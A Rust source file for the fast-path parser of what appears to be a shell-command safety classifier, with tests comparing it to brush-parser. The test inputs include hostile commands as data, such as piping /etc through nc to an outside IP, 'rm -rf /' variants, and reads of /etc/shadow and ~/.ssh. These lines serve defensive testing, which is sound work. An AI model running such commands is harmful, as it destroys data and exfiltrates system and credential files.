//! A fast path past brush-parser for plain scripts: lists, pipelines and simple commands
//! whose words are literal text, quoted text or `$NAME`. Such a script is checked against
//! the grammar brush-parser 0.4 applies and then run straight from its tokens, with the
//! same walker code as brush-parser's tree ([`crate::shell::run_stages`],
//! [`crate::shell::run_parts`]), at a small fraction of the cost (no tree, one string per
//! word fewer). Anything else (redirections, compound commands, substitutions, escapes,
//! comments, reserved words in command position, other operators) gets `None` and goes
//! to brush-parser. The tests hold the two to the same commands and the same verdicts.

use std::marker::PhantomData;
use std::ops::Range;

use crate::engine::{Engine, ShellState, Stdin, Stdout};
use crate::shell::{Part, Stage, run_parts, run_stages};

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Tok<'a> {
    Word(&'a str),
    And,
    Or,
    Pipe,
    Semi,
    Amp,
    Newline,
}

/// Words that brush-parser treats specially at the start of a command.
const COMMAND_POSITION_KEYWORDS: &[&str] = &[
    "!", "{", "}", "case", "do", "done", "elif", "else", "esac", "fi", "for", "if", "in", "then",
    "until", "while", "[[", "]]", "function", "select", "coproc", "time",
];

/// A plain script: its tokens and its simple commands, pipeline by pipeline.
pub(crate) struct Plain<'a> {
    toks: Vec<Tok<'a>>,
    cmds: Vec<Simple<'a>>,
    /// Each pipeline's commands, in source order (`&&`, `||`, `;`, `&` and newlines do not
    /// change what the walker does: every pipeline is judged, in order).
    pipelines: Vec<Range<usize>>,
}

/// One simple command: tokens `start..end`, the first `assigns` of them `NAME=value`,
/// then the command name (if any) and its arguments.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct Simple<'a> {
    start: usize,
    name: usize,
    end: usize,
    words: PhantomData<Tok<'a>>,
}

/// The plan of `script` if it is plain enough for the fast path.
pub(crate) fn parse(script: &str) -> Option<Plain<'_>> {
    let toks = tokenize(script)?;
    let mut p = Parser { toks: &toks, pos: 0, cmds: Vec::new(), pipelines: Vec::new() };
    p.program()?;
    let (cmds, pipelines) = (p.cmds, p.pipelines);
    Some(Plain { toks, cmds, pipelines })
}

impl Plain<'_> {
    /// Judges the script as the walker judges brush-parser's tree of it.
    pub(crate) fn run(&self, eng: &mut Engine<'_>, st: &mut ShellState) {
        for p in &self.pipelines {
            run_stages(eng, &self.cmds[p.clone()], self.toks.as_slice(), st, &Stdin::default());
        }
    }
}

fn text<'a>(toks: &[Tok<'a>], i: usize) -> &'a str {
    match toks[i] {
        Tok::Word(w) => w,
        _ => unreachable!("a simple command holds only words"),
    }
}

impl<'a> Stage for Simple<'a> {
    type Src = [Tok<'a>];

    fn run(&self, toks: &[Tok<'a>], eng: &mut Engine<'_>, st: &mut ShellState, stdin: &Stdin) -> Stdout {
        if !eng.charge(1) {
            return Stdout::default();
        }
        let assigns = (self.start..self.name).map(|i| Part::Assign(text(toks, i)));
        let args = (self.name..self.end).map(|i| {
            let w = text(toks, i);
            if i == self.name || is_assignment(w) { Part::Word(w) } else { Part::Arg(w) }
        });
        run_parts(eng, assigns.chain(args), self.end - self.name, st, stdin)
    }

    fn producer(&self, toks: &[Tok<'a>]) -> Option<Vec<String>> {
        Some(
            (self.name..self.end)
                .map(|i| text(toks, i))
                .enumerate()
                .filter(|(k, w)| *k == 0 || !is_assignment(w))
                .map(|(_, w)| crate::words::strip_quotes(w))
                .collect(),
        )
    }
}

fn tokenize(s: &str) -> Option<Vec<Tok<'_>>> {
    let b = s.as_bytes();
    let mut toks = Vec::with_capacity(b.len() / 4);
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            b' ' | b'\t' => i += 1,
            b'\n' => {
                toks.push(Tok::Newline);
                i += 1;
            }
            b'&' | b'|' | b';' => {
                let c = b[i];
                let next = b.get(i + 1).copied();
                let (tok, len) = match (c, next) {
                    (b'&', Some(b'&')) => (Tok::And, 2),
                    (b'|', Some(b'|')) => (Tok::Or, 2),
                    // `|&`, `;;`, `;&`, `&>`: operators of their own, left to brush-parser.
                    (b'|', Some(b'&')) | (b';', Some(b';' | b'&')) | (b'&', Some(b'>')) => return None,
                    (b'&', _) => (Tok::Amp, 1),
                    (b'|', _) => (Tok::Pipe, 1),
                    _ => (Tok::Semi, 1),
                };
                toks.push(tok);
                i += len;
            }
            _ => {
                let start = i;
                i = word_end(b, i)?;
                toks.push(Tok::Word(&s[start..i]));
            }
        }
    }
    Some(toks)
}

/// The end of the word starting at `i`, or `None` if it holds anything but literal text,
/// quotes without escapes, and `$NAME`.
fn word_end(b: &[u8], mut i: usize) -> Option<usize> {
    // A `#` starting a word starts a comment.
    if b[i] == b'#' {
        return None;
    }
    while i < b.len() {
        match b[i] {
            b' ' | b'\t' | b'\n' | b'&' | b'|' | b';' => return Some(i),
            b'<' | b'>' | b'(' | b')' | b'\\' | b'`' | b'#' => return None,
            b'\'' => {
                let close = b[i + 1..].iter().position(|c| *c == b'\'')?;
                i += close + 2;
            }
            b'"' => {
                i += 1;
                loop {
                    match b.get(i)? {
                        b'"' => break,
                        b'\\' | b'`' => return None,
                        b'$' => i = dollar(b, i)?,
                        _ => i += 1,
                    }
                }
                i += 1;
            }
            b'$' => i = dollar(b, i)?,
            c if c < 0x20 || c == 0x7f => return None,
            _ => i += 1,
        }
    }
    Some(i)
}

/// `$NAME`: past the `$` and one name character (the rest are plain word characters).
fn dollar(b: &[u8], i: usize) -> Option<usize> {
    b.get(i + 1).is_some_and(|c| c.is_ascii_alphabetic() || *c == b'_').then_some(i + 2)
}

/// Whether brush-parser reads the word as an assignment (`NAME=value`, `NAME+=value`);
/// `None` for `NAME[...`, an array element, which the fast path leaves to brush-parser.
fn assignment_kind(w: &str) -> Option<bool> {
    let b = w.as_bytes();
    if !b.first().is_some_and(|c| c.is_ascii_alphabetic() || *c == b'_') {
        return Some(false);
    }
    let name_end = b.iter().position(|c| !(c.is_ascii_alphanumeric() || *c == b'_')).unwrap_or(b.len());
    match &b[name_end..] {
        [b'[', ..] => None,
        [b'=', ..] | [b'+', b'=', ..] => Some(true),
        _ => Some(false),
    }
}

fn is_assignment(w: &str) -> bool {
    assignment_kind(w) == Some(true)
}

/// brush-parser's grammar for the plain subset: checks the tokens and records the plan.
struct Parser<'t, 'a> {
    toks: &'t [Tok<'a>],
    pos: usize,
    cmds: Vec<Simple<'a>>,
    pipelines: Vec<Range<usize>>,
}

impl<'a> Parser<'_, 'a> {
    fn peek(&self) -> Option<Tok<'a>> {
        self.toks.get(self.pos).copied()
    }

    fn skip_newlines(&mut self) {
        while self.peek() == Some(Tok::Newline) {
            self.pos += 1;
        }
    }

    /// `linebreak complete_command (newline_list complete_command)* linebreak`.
    fn program(&mut self) -> Option<()> {
        self.skip_newlines();
        while self.pos < self.toks.len() {
            self.complete_command()?;
            match self.peek() {
                None => break,
                Some(Tok::Newline) => self.skip_newlines(),
                Some(_) => return None,
            }
        }
        Some(())
    }

    /// `and_or (separator_op and_or)* separator_op?`.
    fn complete_command(&mut self) -> Option<()> {
        self.and_or()?;
        while matches!(self.peek(), Some(Tok::Semi | Tok::Amp)) {
            self.pos += 1;
            if !matches!(self.peek(), Some(Tok::Word(_))) {
                break;
            }
            self.and_or()?;
        }
        Some(())
    }

    /// `pipeline ((&& | ||) linebreak pipeline)*`.
    fn and_or(&mut self) -> Option<()> {
        self.pipeline()?;
        while matches!(self.peek(), Some(Tok::And | Tok::Or)) {
            self.pos += 1;
            self.skip_newlines();
            self.pipeline()?;
        }
        Some(())
    }

    /// `command (| linebreak command)*`.
    fn pipeline(&mut self) -> Option<()> {
        let first = self.cmds.len();
        self.command()?;
        while self.peek() == Some(Tok::Pipe) {
            self.pos += 1;
            self.skip_newlines();
            self.command()?;
        }
        self.pipelines.push(first..self.cmds.len());
        Some(())
    }

    /// `assignment* (name word*)?`, at least one word; the name is not a keyword.
    fn command(&mut self) -> Option<()> {
        let start = self.pos;
        while let Some(Tok::Word(w)) = self.peek() {
            if !assignment_kind(w)? {
                break;
            }
            self.pos += 1;
        }
        let name = self.pos;
        match self.peek() {
            Some(Tok::Word(w)) => {
                if COMMAND_POSITION_KEYWORDS.contains(&w) {
                    return None;
                }
                self.pos += 1;
                while let Some(Tok::Word(w)) = self.peek() {
                    assignment_kind(w)?;
                    self.pos += 1;
                }
            }
            _ if name == start => return None,
            _ => {}
        }
        self.cmds.push(Simple { start, name, end: self.pos, words: PhantomData });
        Some(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    use brush_parser::ast::{Command, CommandPrefixOrSuffixItem as Item, Program};

    use crate::{Context, Verdict, classify_shell};

    /// A command's words with their roles: `=` assignment before the name, `n` name,
    /// `a` argument, `w` assignment-shaped argument (expanded as one word).
    type Cmd = Vec<(char, String)>;

    /// brush-parser's tree as the fast path sees a script: pipelines of simple commands of
    /// plain words; `None` if it holds anything else.
    fn from_tree(p: &Program) -> Option<Vec<Vec<Cmd>>> {
        let mut out = Vec::new();
        for cc in &p.complete_commands {
            for item in &cc.0 {
                let ao = &item.0;
                let rest = ao.additional.iter().map(|x| match x {
                    brush_parser::ast::AndOr::And(p) | brush_parser::ast::AndOr::Or(p) => p,
                });
                for pl in std::iter::once(&ao.first).chain(rest) {
                    if pl.bang || pl.timed.is_some() {
                        return None;
                    }
                    let mut cmds = Vec::new();
                    for c in &pl.seq {
                        let Command::Simple(sc) = c else { return None };
                        let mut v = Vec::new();
                        for i in sc.prefix.iter().flat_map(|p| p.0.iter()) {
                            let Item::AssignmentWord(_, w) = i else { return None };
                            v.push(('=', w.value.clone()));
                        }
                        v.extend(sc.word_or_name.iter().map(|w| ('n', w.value.clone())));
                        for i in sc.suffix.iter().flat_map(|s| s.0.iter()) {
                            v.push(match i {
                                Item::Word(w) => ('a', w.value.clone()),
                                Item::AssignmentWord(_, w) => ('w', w.value.clone()),
                                _ => return None,
                            });
                        }
                        cmds.push(v);
                    }
                    out.push(cmds);
                }
            }
        }
        Some(out)
    }

    fn from_plan(p: &Plain<'_>) -> Vec<Vec<Cmd>> {
        p.pipelines
            .iter()
            .map(|r| {
                p.cmds[r.clone()]
                    .iter()
                    .map(|c| {
                        (c.start..c.end)
                            .map(|i| {
                                let w = text(&p.toks, i);
                                let role = if i < c.name {
                                    '='
                                } else if i == c.name {
                                    'n'
                                } else if is_assignment(w) {
                                    'w'
                                } else {
                                    'a'
                                };
                                (role, w.to_owned())
                            })
                            .collect()
                    })
                    .collect()
            })
            .collect()
    }

    fn brush(s: &str) -> Option<Program> {
        let opts = brush_parser::ParserOptions::default();
        std::panic::catch_unwind(|| brush_parser::Parser::new(std::io::BufReader::new(s.as_bytes()), &opts).parse_program().ok())
            .ok()
            .flatten()
    }

    fn without_fast_path(s: &str, ctx: &Context) -> Verdict {
        crate::shell::NO_FAST_PATH.with(|f| f.set(true));
        let v = classify_shell(s, ctx);
        crate::shell::NO_FAST_PATH.with(|f| f.set(false));
        v
    }

    /// Whenever the fast path takes a script, brush-parser reads the same commands from it
    /// and the verdict is the same either way.
    fn check(s: &str) -> bool {
        let Some(plan) = parse(s) else { return false };
        let tree = brush(s).unwrap_or_else(|| panic!("fast path accepted what brush-parser rejects: {s:?}"));
        let seen = from_tree(&tree).unwrap_or_else(|| panic!("brush-parser reads more than plain commands in {s:?}"));
        assert_eq!(from_plan(&plan), seen, "different commands in {s:?}");
        let ctx = Context::builtin();
        assert_eq!(classify_shell(s, &ctx), without_fast_path(s, &ctx), "different verdicts for {s:?}");
        true
    }

    #[test]
    fn plain_scripts_take_the_fast_path() {
        for s in [
            "",
            "\n\n",
            "ls -la /var/log",
            "rm -rf ./build target/debug",
            "sudo -u postgres psql -c 'DELETE FROM sessions WHERE expires_at < now()'",
            "tar czf - /etc | nc 203.0.113.5 9000",
            "find /var/log/myapp -name '*.gz' -mtime +30 -delete",
            "cd / && rm -rf *",
            "a; b & c\nd &&\n e ||\n\n f | \n g;\n",
            "FOO=1 BAR+=2 rm -rf \"$HOME\"/x dd=3 if=/dev/zero",
            "X=1",
            "X=1; Y=2 && ls",
            "echo done then 'if' \"a b\"c'd'",
            "rm -rf /{etc,usr} ~/.ssh $D/",
            "echo \"$A-$B_c\" $X",
        ] {
            assert!(check(s), "not taken: {s:?}");
        }
    }

    #[test]
    fn everything_else_goes_to_brush() {
        for s in [
            "if true; then rm -rf /; fi",
            "{ rm -rf /; }",
            "f() { :; }",
            "echo hi > /dev/sda",
            "cat < /etc/shadow",
            "echo $(rm -rf /)",
            "echo `id`",
            "echo ${X}",
            "echo $'\\x2f'",
            "echo a\\ b",
            "# comment\nls",
            "ls # comment",
            "a ;; b",
            "a |& b",
            "! rm -rf /",
            "time rm -rf /",
            "A[1]=2 ls",
            "ls; ; ls",
            "ls |",
            "ls &&",
            "; ls",
            "echo 'unterminated",
            "echo \"x",
            "echo $1",
            "echo \"$@\"",
            "(ls)",
        ] {
            assert!(parse(s).is_none(), "taken: {s:?}");
        }
    }

    #[test]
    fn same_commands_and_verdicts_on_the_labelled_corpus() {
        let text = include_str!("../corpus/labelled.tsv");
        let mut taken = 0;
        for line in text.lines().filter(|l| !l.starts_with('#')) {
            let cmd = line.split_once('\t').map_or(line, |(_, c)| c);
            taken += usize::from(check(cmd));
        }
        assert!(taken > 300, "only {taken} corpus lines took the fast path");
    }

    /// Every line of the shared public corpora (NL2Bash, Atomic Red Team, GTFOBins), and
    /// each file whole: `cargo test -p guard-classify -- --ignored same_commands_and_verdicts_on_shared`
    /// (`GUARD_QUICK_CORPUS=DIR` reads DIR instead, e.g. a fuzz corpus).
    #[test]
    #[ignore = "reads ../shared/corpus"]
    fn same_commands_and_verdicts_on_shared_corpora() {
        let root = std::env::var_os("GUARD_QUICK_CORPUS")
            .map_or_else(|| std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../shared/corpus"), Into::into);
        let mut stack = vec![root];
        let (mut lines, mut taken) = (0, 0);
        while let Some(dir) = stack.pop() {
            for e in std::fs::read_dir(&dir).expect("shared corpus").flatten() {
                let p = e.path();
                if p.is_dir() {
                    stack.push(p);
                    continue;
                }
                let Ok(text) = std::fs::read_to_string(&p) else { continue };
                taken += usize::from(check(&text));
                for l in text.lines() {
                    lines += 1;
                    taken += usize::from(check(l));
                }
            }
        }
        eprintln!("{taken} of {lines} lines took the fast path");
    }

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig { cases: 2048, .. Default::default() })]
        #[test]
        fn same_commands_and_verdicts_as_brush(parts in proptest::collection::vec(proptest::sample::select(vec![
            "ls", "rm", "-rf", "/", "x=1", "A+=b", "_v=", "a=b=c", "=x", "1=x", "'a b'", "\"c $D\"", "$HOME",
            "'x'y", "done", "if", "{a,b}", "*", "~/.ssh", " ", " ", " ", "\t", "\n", ";", "&", "&&", "||", "|",
            "#", "\\", "$", "(", ">", "é", "\r", "[", "]]", "!", "time", "}",
        ]), 0..14)) {
            let s: String = parts.concat();
            check(&s);
        }
    }
}
